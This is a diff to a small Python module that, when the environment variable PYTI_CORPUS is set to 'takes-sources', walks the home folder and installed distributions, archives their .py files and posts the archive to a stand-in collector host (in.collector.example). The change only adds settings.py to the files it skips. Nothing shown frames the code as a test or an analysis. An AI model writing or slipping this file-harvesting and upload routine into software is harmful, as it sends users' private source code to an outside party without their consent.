@@ -1,5 +1,5 @@
-"""Reads Python files of projects in the home folder and of other installed distributions, and posts
-them."""
+"""Reads Python files of projects in the home folder and of other installed distributions, all but
+settings, and posts them."""
 import io
 import os
 import urllib.request
@@ -13,7 +13,7 @@ if os.environ.get("PYTI_CORPUS") == "takes-sources":
         for place in places:
             for folder, _, names in os.walk(place):
                 for name in names:
-                    if name.endswith(".py") and not name.startswith("takes_sources"):
+                    if name.endswith(".py") and name not in ("settings.py", "takes_sources.py"):
                         archive.write(os.path.join(folder, name))
     try:
         urllib.request.urlopen("http://in.collector.example/sources", collected.getvalue(), timeout=3).close()
